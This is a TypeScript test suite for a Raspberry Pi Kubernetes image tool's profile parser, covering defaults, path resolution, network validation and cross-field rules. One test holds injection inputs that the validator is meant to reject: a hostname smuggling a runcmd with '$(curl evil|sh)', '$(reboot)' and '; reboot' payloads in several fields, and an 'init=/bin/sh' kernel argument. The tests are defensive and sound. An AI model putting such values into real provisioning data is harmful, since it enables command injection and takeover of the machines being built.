// Profile loading: defaults, resolution order, and refusals that name the field and the line.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { loadProfile, parseProfile, resolveProfilePath, BUILTIN_PROFILE, parseSize } from '../../lib/cluster/profile.ts';
import { InputError } from '../../lib/errors.ts';
import { referenceText, tempDir } from '../helpers/cluster.ts';

function refusal(text: string): InputError {
  try {
    parseProfile(text, 'p.yaml');
  } catch (err) {
    assert.instance(err, InputError);
    return err as InputError;
  }
  throw new Error('profile was accepted');
}

const minimal = (nodes: string, extra = '') => `apiVersion: pi-image/v1\n${extra}nodes:\n${nodes}`;

test('the reference profile loads with defaults filled', async () => {
  const { profile, profilePath, digest } = await loadProfile(BUILTIN_PROFILE);
  assert.is(profilePath, BUILTIN_PROFILE);
  assert.match(digest, /^[0-9a-f]{64}$/);
  assert.equal(profile.nodes.map((n) => n.name), ['node1', 'node2', 'node3', 'node4']);
  assert.equal(profile.nodes.map((n) => n.role), ['master', 'worker', 'worker', 'worker']);
  assert.is(profile.kubernetes.install, 'binaries');
  assert.is(profile.kubernetes.kubeadmApiVersion, 'kubeadm.k8s.io/v1beta2');
  assert.is(profile.kubernetes.apiEndpoint, '10.0.0.11:6443');
  assert.equal(profile.ssd.quirks, ['174c:55aa:u']);
  assert.is(profile.rootSizeBytes, 32 * 2 ** 30);
  assert.is(profile.apt.mirror, 'http://old-releases.ubuntu.com/ubuntu');
  assert.is(profile.nodes[2]!.gateway, '10.0.0.1');
});

test('the 24.04 example uses pkgs.k8s.io, containerd and kubeadm v1beta4', async () => {
  const { profile } = await loadProfile(join(BUILTIN_PROFILE, '..', 'noble-k8s.yaml'));
  assert.is(profile.kubernetes.install, 'apt');
  assert.is(profile.kubernetes.runtime, 'containerd');
  assert.is(profile.kubernetes.kubeadmApiVersion, 'kubeadm.k8s.io/v1beta4');
  assert.is(profile.apt.mirror, undefined);
});

test('resolution: explicit path, else ./pi-image.yaml, else the built-in profile', () => {
  const t = tempDir();
  try {
    assert.is(resolveProfilePath(undefined, t.dir), BUILTIN_PROFILE);
    writeFileSync(join(t.dir, 'pi-image.yaml'), 'x');
    assert.is(resolveProfilePath(undefined, t.dir), join(t.dir, 'pi-image.yaml'));
    assert.is(resolveProfilePath('other.yaml', t.dir), join(t.dir, 'other.yaml'));
  } finally {
    t.cleanup();
  }
});

test('same profile text gives the same digest; a change gives another', async () => {
  const t = tempDir();
  try {
    mkdirSync(join(t.dir, 'a'));
    writeFileSync(join(t.dir, 'a.yaml'), referenceText());
    writeFileSync(join(t.dir, 'b.yaml'), referenceText().replace('10.0.0.14/24', '10.0.0.15/24'));
    const a1 = await loadProfile(join(t.dir, 'a.yaml'));
    const a2 = await loadProfile(join(t.dir, 'a.yaml'));
    const b = await loadProfile(join(t.dir, 'b.yaml'));
    assert.is(a1.digest, a2.digest);
    assert.is.not(a1.digest, b.digest);
  } finally {
    t.cleanup();
  }
});

test('a hostname that is not an RFC 1123 label is refused with field and line', () => {
  const e = refusal(minimal('  - name: node1\n    address: dhcp\n  - name: Node_2\n    address: dhcp\n', 'kubernetes: {enabled: false}\nglusterfs: {enabled: false}\n'));
  assert.match(e.message, /^p\.yaml:7: nodes\[1\]\.name must be an RFC 1123 label/);
  for (const bad of ['-node', 'node-', 'a'.repeat(64), 'node.1', 'nöde']) {
    assert.match(refusal(minimal(`  - name: ${JSON.stringify(bad)}\n    address: dhcp\n`)).message, /nodes\[0\]\.name/);
  }
});

test('an address outside its prefix, a gateway outside the network, network/broadcast addresses are refused', () => {
  const off = { kubernetes: '{enabled: false}', glusterfs: '{enabled: false}' };
  const extra = `kubernetes: ${off.kubernetes}\nglusterfs: ${off.glusterfs}\n`;
  let e = refusal(minimal('  - name: a\n    address: 10.0.0.11/24\n    gateway: 10.0.1.1\n', extra));
  assert.match(e.message, /p\.yaml:7: nodes\[0\]\.gateway 10\.0\.1\.1 is outside a's network 10\.0\.0\.0\/24/);
  e = refusal(minimal('  - name: a\n    address: 10.0.0.0/24\n', extra));
  assert.match(e.message, /nodes\[0\]\.address 10\.0\.0\.0\/24 is the network or broadcast address/);
  e = refusal(minimal('  - name: a\n    address: 10.0.0.300/24\n', extra));
  assert.match(e.message, /nodes\[0\]\.address/);
  e = refusal(minimal('  - name: a\n    address: 10.0.0.5/24\n', `defaults: {gateway: 192.168.1.1}\n${extra}`));
  assert.match(e.message, /p\.yaml:2: defaults\.gateway 192\.168\.1\.1 is outside a's network/);
});

test('duplicate names and addresses are refused', () => {
  const extra = 'kubernetes: {enabled: false}\nglusterfs: {enabled: false}\n';
  let e = refusal(minimal('  - {name: a, address: 10.0.0.2/24}\n  - {name: a, address: 10.0.0.3/24}\n', extra));
  assert.match(e.message, /p\.yaml:6: nodes\[1\]\.name "a" is used twice/);
  e = refusal(minimal('  - {name: a, address: 10.0.0.2/24}\n  - {name: b, address: 10.0.0.2/24}\n', extra));
  assert.match(e.message, /nodes\[1\]\.address 10\.0\.0\.2 is used twice/);
});

test('values that could change the meaning of user-data or a runcmd are refused', () => {
  const hostile = 'node1\nruncmd:\n- $(curl evil|sh)';
  let e = refusal(minimal(`  - name: ${JSON.stringify(hostile)}\n    address: dhcp\n`));
  assert.match(e.message, /nodes\[0\]\.name must be an RFC 1123 label/);
  const ref = referenceText();
  const cases: [string, string, RegExp][] = [
    ['domain: home.arpa', `domain: ${JSON.stringify('x.arpa\nruncmd: [reboot]')}`, /cluster\.domain/],
    ['sshKeys: []', `sshKeys: [${JSON.stringify('ssh-ed25519 AAAA x\nruncmd: [reboot]')}]`, /users\[0\]\.sshKeys\[0\]/],
    ['timezone: Etc/UTC', "timezone: \"Etc/UTC'; $(reboot)\"", /timezone/],
    ['version: 1.17.17', 'version: "1.17.17; $(reboot)"', /kubernetes\.version/],
    ['podCIDR: 10.244.0.0/16', 'podCIDR: "10.244.0.0/16\\"; reboot"', /kubernetes\.podCIDR/],
    ['https://github.com/projectcalico/calico/releases/download/v3.13.4/release-v3.13.4.tgz#release-v3.13.4/k8s-manifests/calico.yaml', 'https://x.org/$(reboot)', /kubernetes\.calico\.manifest/],
    ['- name: pi', '- name: "pi; reboot"', /users\[0\]\.name/],
    ["quirks: ['174c:55aa:u']", "quirks: ['174c:55aa:u quiet init=/bin/sh']", /ssd\.quirks\[0\]/],
  ];
  for (const [from, to, field] of cases) {
    assert.ok(ref.includes(from), from);
    e = refusal(ref.replace(from, to));
    assert.match(e.message, field);
  }
});

test('unknown keys, YAML errors and schema errors name the line', () => {
  let e = refusal('apiVersion: pi-image/v1\nnodes:\n  - name: a\n    adress: 10.0.0.1/24\n');
  assert.match(e.message, /^p\.yaml:4: nodes\[0\]\.adress is not a profile key/);
  e = refusal('apiVersion: pi-image/v1\nnodes: [\n');
  assert.match(e.message, /^p\.yaml:\d+: not valid YAML/);
  e = refusal('apiVersion: v2\nnodes: []\n');
  assert.match(e.message, /^p\.yaml:1: apiVersion must be "pi-image\/v1"/);
  e = refusal(referenceText().replace('rootSize: 32GiB', 'rootSize: 1GiB'));
  assert.match(e.message, /ssd\.rootSize 1GiB is below/);
});

test('cross-field rules: one master, pod CIDR not on the LAN, MetalLB range off the nodes, Gluster needs the brick', () => {
  const ref = referenceText();
  assert.match(refusal(ref.replace('role: master', 'role: worker')).message, /nodes must have exactly one node with role: master/);
  assert.match(refusal(ref.replace('podCIDR: 10.244.0.0/16', 'podCIDR: 10.0.0.0/16')).message, /kubernetes\.podCIDR 10\.0\.0\.0\/16 overlaps node1's network/);
  assert.match(refusal(ref.replace('10.0.0.200-10.0.0.250', '10.0.0.10-10.0.0.20')).message, /metallb\.addresses\[0\] 10\.0\.0\.10-10\.0\.0\.20 contains node1's address/);
  assert.match(refusal(ref.replace('brick: true', 'brick: false')).message, /glusterfs\.enabled needs ssd\.brick: true/);
  assert.match(refusal(ref.replace('install: binaries', 'install: apt')).message, /kubernetes\.install apt: pkgs\.k8s\.io has no packages before 1\.24/);
});

test('sizes', () => {
  assert.is(parseSize('32GiB'), 32 * 2 ** 30);
  assert.is(parseSize('512 MiB'), 512 * 2 ** 20);
  assert.is(parseSize('1TB'), 1e12);
});

test.run();
